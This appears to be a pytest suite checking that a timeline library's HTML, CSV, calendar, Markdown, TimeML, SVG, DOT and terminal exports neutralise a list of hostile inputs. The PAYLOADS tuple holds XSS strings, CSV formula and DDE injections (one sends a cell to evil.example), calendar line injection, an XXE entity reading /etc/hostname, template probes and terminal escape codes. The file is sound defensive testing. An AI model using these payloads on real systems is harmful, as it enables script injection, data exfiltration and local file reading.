"""One article that tries to break out of every format, read by parsers that are not ours: nothing runs."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
import pytest
import rdflib
from icalendar import Calendar
from lxml import etree
from markdown_it import MarkdownIt

from tests.exporters import items
from tests.exporters.test_linked_data import read
from tests.factories import sample
from timeline import Timeline, build_timeline, cli, read_timeml
from timeline.exporters import BUILT_IN
from timeline.schema import json_schema
from timeline.timeline import TextFormat

PAYLOADS = (
    "</script><script>alert('OWNED')</script>",
    "<img src=x onerror=alert('OWNED')>",
    "<svg/onload=alert(1)><a href=javascript:alert(1)>x</a>",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd\t-2",
    "\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:http://evil.example/x\r\nEND:VALARM\r\n",
    '"]; owned [URL="http://evil.example/", label="x\\',
    '%%{init: {"securityLevel": "loose"}}%%',
    'click e1 href "javascript:alert(1)"',
    "[x](javascript:alert(1)) ![x](http://evil.example/x.png) | a | `b`",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]> &xxe; ]]>',
    '""" . <http://evil.example/s> <http://evil.example/p> "o" . #',
    "\x1b]0;OWNED\x07\x1b[2J\x9b31m\x08",
    "{{ 7*7 }} {% include 'x' %} ${7*7} {0.__class__}",
    "\u2028\u202eOWNED\u2066 \ud83d \x00",
)
DEEDS = """
opened closed sold bought painted visited left flooded fenced mapped lit blocked dredged rented drained shut
""".split()
ARTICLE = "\n\n".join(
    f"On March {day}, Ana Ruiz {deed} the {payload} harbour."
    for day, (deed, payload) in enumerate(zip(DEEDS, PAYLOADS, strict=True), start=2)
)
TEXT_FORMATS = tuple(sorted({*BUILT_IN} - {"arrow", "pandas", "parquet", "png", "polars"}))
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@cache
def article() -> Timeline:
    """The article, read by the library itself."""
    return build_timeline(ARTICLE, "2024-05-10")


@cache
def by_hand() -> Timeline:
    """Each payload as trigger, lemma, sentence and summary of an event."""
    return items.hostile()


@pytest.fixture(params=[article, by_hand], ids=["article", "by-hand"])
def timeline(request: pytest.FixtureRequest) -> Timeline:
    made: Timeline = request.param()
    return made


def elements(tree: Any) -> Iterator[Element]:
    return (each for each in tree.iter() if isinstance(each.tag, str))


def test_the_article_gets_as_far_as_the_summaries() -> None:
    assert len(article()) >= len(PAYLOADS) // 2
    assert any("OWNED" in entry.summary for entry in article())
    assert any("HYPERLINK" in entry.summary for entry in article())


@pytest.mark.parametrize("format", TEXT_FORMATS)
def test_it_is_written_without_a_character_that_commands(timeline: Timeline, format: TextFormat) -> None:
    written = timeline.to(format)
    written.encode("utf-8")
    if format not in ("json", "jsonl", "annotations", "timeml", "html"):  # these keep the text as it is, escaped
        assert not CONTROLS.search(written)
    assert "\x1b" not in written


@pytest.mark.parametrize("markup", ["html", "notebook"])
def test_html_holds_nothing_that_runs(timeline: Timeline, markup: str) -> None:
    written = timeline.to("html") if markup == "html" else timeline._repr_html_()
    calm = sample().to("html") if markup == "html" else sample()._repr_html_()
    tree = html5lib.parse(written, namespaceHTMLElements=False)
    for element in elements(tree):
        assert not [name for name in element.attrib if name.lower().startswith("on")], element.tag
        assert not any("javascript:" in value for value in element.attrib.values())
        assert element.tag not in ("img", "iframe", "object", "embed", "base", "link", "form") or element.tag == "form"
    count = [each.tag for each in elements(tree)].count
    of_calm = [each.tag for each in elements(html5lib.parse(calm, namespaceHTMLElements=False))].count
    assert (count("script"), count("style"), count("svg")) == (of_calm("script"), of_calm("style"), of_calm("svg"))


def test_the_page_asks_nobody_for_anything(timeline: Timeline) -> None:
    tree = html5lib.parse(timeline.to("html"), namespaceHTMLElements=False)
    (policy,) = (each.get("content", "") for each in tree.iter("meta") if "http-equiv" in each.attrib)
    assert policy.startswith("default-src 'none'")
    addresses = [each.get(name, "") for each in elements(tree) for name in ("src", "href", "action", "srcset")]
    assert all(not address or address.startswith("#") for address in addresses)


def test_csv_cells_are_no_formulas(timeline: Timeline) -> None:
    rows = list(csv.reader(io.StringIO(timeline.to("csv"))))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == len(timeline) + 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell)


def test_a_calendar_has_its_events_and_no_others(timeline: Timeline) -> None:
    written = timeline.to("ics")
    calendar = Calendar.from_ical(written)
    assert {component.name for component in calendar.walk()} == {"VCALENDAR", "VEVENT"}
    assert len(calendar.events) == len(timeline)
    assert all({*event} <= WRITTEN for event in calendar.events)
    lines = written.split("\r\n")
    assert not any("\r" in line or "\n" in line for line in lines)
    assert all(len(line.encode()) <= 75 for line in lines)


WRITTEN = {
    *(
        "UID",
        "DTSTAMP",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "DESCRIPTION",
        "STATUS",
        "TRANSP",
        "CATEGORIES",
        "URL",
        "X-EDTF",
    ),
}


def test_markdown_is_text_in_a_table(timeline: Timeline) -> None:
    tokens = MarkdownIt("commonmark").enable("table").parse(timeline.to("markdown"))
    kinds = {token.type for token in tokens}
    assert kinds <= {*(f"{part}_{end}" for part in PARTS for end in ("open", "close")), "inline"}
    inside = {child.type for token in tokens for child in token.children or ()}
    assert inside <= {"text", "text_special", "softbreak"}, "markup of the article's own"
    assert [token.type for token in tokens].count("tr_open") == len(timeline) + 1


PARTS = ("table", "thead", "tbody", "tr", "th", "td", "paragraph")


@pytest.mark.parametrize("dialect", ["1.2.1", "tempeval3"])
def test_timeml_has_our_elements_and_no_entities(timeline: Timeline, dialect: str) -> None:
    written = timeline.to("timeml", dialect=dialect)
    assert "<!" not in written
    root = etree.fromstring(written.encode(), etree.XMLParser(resolve_entities=False, no_network=True))
    assert {each.tag for each in root.iter()} <= {"TimeML", "TIMEX3", "EVENT", "MAKEINSTANCE", "TLINK", "DCT", "TEXT"}
    assert len(read_timeml(timeline.to("timeml", dialect="tempeval3")).text) == len(timeline.text)


def test_svg_draws_and_does_nothing_else(timeline: Timeline) -> None:
    root = etree.fromstring(timeline.to("svg").encode(), etree.XMLParser(resolve_entities=False, no_network=True))
    drawn = {etree.QName(each).localname for each in root.iter() if isinstance(each.tag, str)}
    assert not drawn & {"script", "foreignObject", "image", "a", "use", "style", "iframe", "animate", "set"}
    attributes = [(str(name), str(value)) for each in root.iter() for name, value in each.attrib.items()]
    assert not [
        name for name, value in attributes if name.startswith("on") or name.endswith("href") or "url(http" in value
    ]


@pytest.mark.parametrize("format", ["turtle", "jsonld"])
def test_linked_data_says_what_we_say(timeline: Timeline, format: TextFormat) -> None:
    written = timeline.to(format)
    graph = rdflib.Graph().parse(data=written, format="turtle") if format == "turtle" else read(written)
    terms = {str(term) for triple in graph for term in triple if isinstance(term, rdflib.URIRef)}
    assert not [term for term in terms if "evil.example" in term]


def test_scripts_cannot_be_ended_by_json(timeline: Timeline) -> None:
    for name in ("jsonld", "vis", "timelinejs"):
        document = timeline.to(name)
        json.loads(document)
        assert "<" not in document, f"{name} may stand in a page"


def strings_in(value: Any) -> Iterator[str]:
    for each in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from strings_in(each)
    if isinstance(value, str):
        yield value


def test_json_keeps_every_character(timeline: Timeline) -> None:
    document = timeline.to("json")
    assert json.loads(document)["text"] == timeline.text
    assert Timeline.from_json(document) == timeline
    assert all(json.loads(line) for line in timeline.to("jsonl").rstrip("\n").split("\n"))


DOT_QUOTED = r'"(?:[^"\\]|\\["\\n])*"'
DOT_LINE = re.compile(
    rf"digraph timeline \{{|\}}|  (?:node|edge) \[.*\];|  rankdir=LR;"
    rf"|  {DOT_QUOTED} \[shape=\w+, label={DOT_QUOTED}(?:, (?:style=\w+|fontcolor=\"gray40\"))*\];"
    rf"|  {DOT_QUOTED} -> {DOT_QUOTED}(?: \[(?:(?:label={DOT_QUOTED}|style=dashed|minlen=0|dir=none)(?:, )?)+\])?;"
)


def test_a_graph_has_our_statements_and_attributes(timeline: Timeline) -> None:
    for line in timeline.to("dot").rstrip("\n").split("\n"):
        assert DOT_LINE.fullmatch(line), line


@pytest.mark.parametrize("format", ["mermaid", "gantt", "flowchart"])
def test_diagrams_have_no_directive_and_no_link(timeline: Timeline, format: TextFormat) -> None:
    for line in timeline.to(format).splitlines():
        assert not re.match(r"\s*(?:%%|click|href|call|style|linkStyle|accTitle|---)", line), line
        assert "<" not in line.replace("<br>", "").replace("<br/>", "")
        assert "javascript:" not in line


def test_frames_hold_it_as_text(timeline: Timeline) -> None:
    summaries = timeline.to("polars")["summary"].to_list()
    assert timeline.to("pandas")["summary"].to_list() == summaries
    assert len(summaries) == len(timeline)


def test_explanations_are_plain_lines(timeline: Timeline) -> None:
    for entry in timeline:
        assert not CONTROLS.search(timeline.explain(entry))


def test_the_schema_points_nowhere_else() -> None:
    def references(value: Any) -> Iterator[str]:
        for name, each in value.items() if isinstance(value, dict) else enumerate(value):
            if name == "$ref":
                yield each
            elif isinstance(each, dict | list):
                yield from references(each)

    assert all(reference.startswith("#") for reference in references(json_schema()))


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    "arguments",
    [
        *(["-f", name] for name in TEXT_FORMATS),
        [],
        *(["find", "-f", name] for name in ("text", "json", "timeml")),
        ["find", "--explain"],
    ],
    ids=" ".join,
)
def test_a_terminal_is_given_no_commands(arguments: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "a.txt"
    path.write_text(ARTICLE.replace("\ud83d", ""), encoding="utf-8", newline="")
    monkeypatch.setattr("timeline.pipeline.build_timeline", lambda *_, **__: article())
    monkeypatch.setattr(sys, "stdout", screen := Terminal())
    monkeypatch.setattr(sys, "stderr", said := Terminal())
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setenv("NO_COLOR", "1")
    command = arguments[:1] if arguments[:1] == ["find"] else []
    assert cli.main([*command, str(path), "-d", "2024-05-10", *arguments[len(command) :]]) == 0, said.getvalue()
    shown = re.sub("\x1b\\[[01;7m]*m", "", screen.getvalue())  # bold, reverse and off: our own
    assert not CONTROLS.search(shown + said.getvalue())
    assert "harbour" in shown or "March" in shown


def test_complaints_are_given_no_commands(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    edits = tmp_path / "e.json"
    edits.write_text('{"schema": "\\u001b[31m\\u009b", "\\u001b[2J": 1}')
    (tmp_path / "a.txt").write_text("It rained on Monday.")
    given = [str(tmp_path / "a.txt"), "-d", "2024-05-10"]
    for arguments in (
        ["\x1b[31m.txt", "-d", "2024-05-10"],
        [*given, "-f", "\x1b[31m"],
        [*given, "-o", "x.\x1b[31m"],
        [*given, "--edits", str(edits)],
        [*given, "--\x1b[31m"],
        [*given[:1], "-d", "\x1b[31m"],
    ):
        assert cli.main(arguments) == 2
        said = capsys.readouterr().err
        assert not CONTROLS.search(said), said
        assert said.count("\n") == 1


def test_highlights_stand_where_the_words_do(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "a.txt"
    path.write_bytes(b"It rained.\r\n\x1b[2JIt dried up\r\non Monday.\r\n")
    monkeypatch.setattr(sys, "stdout", screen := Terminal())
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)
    assert cli.main(["find", str(path), "-d", "2024-05-10"]) == 0
    assert "\x1b[1;7mMonday\x1b[0m" in screen.getvalue()
